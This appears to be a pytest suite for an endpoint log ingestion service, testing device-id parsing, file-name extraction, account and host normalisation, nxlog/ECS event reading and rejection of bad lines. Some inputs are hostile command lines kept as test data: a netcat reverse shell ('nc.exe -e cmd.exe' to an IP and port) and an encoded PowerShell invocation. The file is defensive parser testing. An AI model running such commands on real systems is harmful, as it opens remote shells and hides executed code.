"""Device ids, path cutting, people and the shapes' edge cases."""

import json

import pytest

from ingest_endpoint import ecs, nxlog
from ingest_endpoint.devices import parse_device_id
from ingest_endpoint.ingest import parse
from ingest_endpoint.minimise import defender_file_name, file_name_of, host_of
from svckit.ingest import MAX_REJECT_BYTES as MAX_RAW_BYTES
from svckit.ingest import person


@pytest.mark.parametrize(
    ("instance", "expected"),
    [
        ("USB\\VID_0781&PID_5581\\4C530001231120115142", ("0781", "5581", "4C530001231120115142")),
        (
            "USBSTOR\\Disk&Ven_Kingston&Prod_DataTraveler_3.0&Rev_PMAP\\60A44C3FACC9B1B0A9A1&0",
            ("KINGSTON", "DATATRAVELER_3.0", "60A44C3FACC9B1B0A9A1"),
        ),
        (
            "SWD\\WPDBUSENUM\\_??_USB#VID_04E8&PID_6860&MS_COMP_MTP#R58M12345AB#{6ac27878}",
            ("04E8", "6860", "R58M12345AB"),
        ),
        ("USB\\VID_046D&PID_C52B\\6&2b4e4a19&0&2", ("046D", "C52B", "")),
        ("", ("", "", "")),
    ],
)
def test_device_ids(instance: str, expected: tuple[str, str, str]) -> None:
    parsed = parse_device_id(instance)
    assert (parsed.vendor_id, parsed.product_id, parsed.serial) == expected


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ('"C:\\Program Files\\Foo Bar\\foo.exe" -k secret', "foo.exe"),
        ("%SystemRoot%\\system32\\svchost.exe -k netsvcs -p", "svchost.exe"),
        ("\\SystemRoot\\System32\\drivers\\evil.sys", "evil.sys"),
        ("C:\\Tools\\nc.exe -e cmd.exe 10.0.0.1 4444", "nc.exe"),
        ("/usr/bin/thing --flag", "thing"),
    ],
)
def test_file_name_of_cuts_paths_and_arguments(text: str, name: str) -> None:
    assert file_name_of(text) == name


def test_defender_archive_member_and_process_resources() -> None:
    assert defender_file_name("file:_C:\\x\\a.zip->(Zip)inner dir/evil.exe") == "evil.exe"
    assert defender_file_name("process:_pid:4242,ProcessStart:1337; file:_C:\\t\\m.dll") == "m.dll"
    assert defender_file_name("") == ""


@pytest.mark.parametrize(
    ("user", "domain", "expected"),
    [
        ("JSmith", "ELMSFARM", "jsmith"),
        ("ELMSFARM\\JSmith", "", "jsmith"),
        ("jsmith@elmsfarm.example", "", "jsmith"),
        ("EF-PC07$", "ELMSFARM", ""),
        ("-", "-", ""),
        ("SYSTEM", "NT AUTHORITY", ""),
        ("DWM-3", "Window Manager", ""),
        ("S-1-5-21-1-2-3-1107", "", ""),
    ],
)
def test_only_people_are_accounts(user: str, domain: str, expected: str) -> None:
    assert person(user, domain) == expected


def test_hosts_are_short_and_lower_case_but_addresses_stay_whole() -> None:
    assert host_of("EF-PC07.elmsfarm.local") == "ef-pc07"
    assert host_of("10.20.1.5") == "10.20.1.5"


def test_ecs_reads_dotted_keys_and_integer_ids() -> None:
    line = {
        "@timestamp": "2026-11-23T09:15:02Z",
        "winlog.event_id": 4800,
        "winlog.channel": "Security",
        "host.name": "EF-PC01",
        "winlog.event_data.TargetUserName": "jsmith",
        "winlog.event_data.TargetLogonId": "0x99",
    }
    ev = ecs.read(line)
    assert (ev.event_id, ev.computer, ev.get("TargetLogonId")) == (4800, "EF-PC01", "0x99")


def test_nxlog_local_time_uses_the_school_zone_in_summer() -> None:
    ev = nxlog.read({"EventID": "4800", "EventTime": "2026-06-01 09:00:00", "Channel": "Security"})
    assert ev.timestamp.isoformat() == "2026-06-01T08:00:00+00:00"


def test_nxlog_keyword_mask_marks_audit_failure() -> None:
    for keywords in ("-9218868437227405312", "0x8010000000000000", "Audit Failure"):
        assert nxlog.read({"EventID": 5145, "EventTime": "2026-11-23 09:00:00", "Keywords": keywords}).failure
    assert not nxlog.read(
        {"EventID": 5145, "EventTime": "2026-11-23 09:00:00", "Keywords": "-9214364837600034816"}
    ).failure


def test_classic_msi_event_with_only_a_message() -> None:
    line = {
        "EventID": 11707,
        "SourceName": "MsiInstaller",
        "Channel": "Application",
        "Hostname": "EF-PC01",
        "EventTime": "2026-11-23 13:05:00",
        "Message": "Product: Steam -- Installation completed successfully.",
        "AccountName": "jsmith",
        "Domain": "ELMSFARM",
        "AccountType": "User",
    }
    batch = parse("nxlog", json.dumps(line).encode(), "st-peters")
    assert [event.endpoint.software.name for event in batch.events] == ["Steam"]
    assert batch.events[0].account == "jsmith"


def test_event_id_from_the_wrong_provider_is_refused() -> None:
    powershell = {
        "EventID": 400,
        "SourceName": "PowerShell",
        "Channel": "Windows PowerShell",
        "EventTime": "2026-11-23 13:05:00",
        "HostApplication": "powershell.exe -enc SQBFAFgA",
    }
    batch = parse("nxlog", json.dumps(powershell).encode(), "elms-farm")
    assert not batch.events
    assert batch.rejects[0].reason == "line 1: event id 400 from provider 'PowerShell' not monitored"


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (b"not json", "line 1: not JSON"),
        (b"[1, 2]", "line 1: not a JSON object but list"),
        (b"\xff\xfe", "line 1: not UTF-8"),
        (b'{"EventID": "x", "EventTime": "2026-11-23 09:00:00"}', "line 1: event id is not a number"),
        (b'{"EventID": 4624, "EventTime": "yesterday"}', "line 1: EventTime is not an ISO 8601 time"),
        (b'{"EventID": 4624}', "line 1: EventTime is missing"),
        (
            b'{"EventID": 4624, "EventTime": "2026-11-23 09:00:00", "Channel": "Security", "LogonType": "x"}',
            "line 1: LogonType is not",
        ),
        (
            b'{"EventID": 6416, "EventTime": "2026-11-23 09:00:00", "Channel": "Security"}',
            "line 1: device event",
        ),
    ],
)
def test_bad_lines_are_rejected_with_a_reason(line: bytes, reason: str) -> None:
    batch = parse("nxlog", line, "elms-farm")
    assert not batch.events
    assert batch.rejects[0].reason.startswith(reason)
    assert batch.rejects[0].raw == line


def test_blank_lines_are_skipped_and_numbers_count_them() -> None:
    batch = parse("ecs", b"\n\r\n  \nnope\n", "elms-farm")
    assert [reject.reason[:6] for reject in batch.rejects] == ["line 4"]


def test_huge_line_is_kept_up_to_the_cap() -> None:
    line = b'{"pad": "' + b"x" * (MAX_RAW_BYTES * 2) + b'"}'
    reject = parse("ecs", line, "elms-farm").rejects[0]
    assert len(reject.raw) == MAX_RAW_BYTES
    assert "raw cut to" in reject.reason


def test_event_ids_are_stable_across_replays() -> None:
    line = (
        b'{"EventID": 4800, "EventTime": "2026-11-23 09:00:00", "Channel": "Security", "TargetUserName": "a"}'
    )
    first = parse("nxlog", line, "elms-farm").events[0].event_id
    assert parse("nxlog", line + b"\r\n", "elms-farm").events[0].event_id == first
    assert parse("nxlog", line, "st-peters").events[0].event_id != first


def test_unknown_format_is_a_callers_mistake() -> None:
    with pytest.raises(ValueError, match="unknown endpoint format"):
        parse("evtx", b"", "elms-farm")
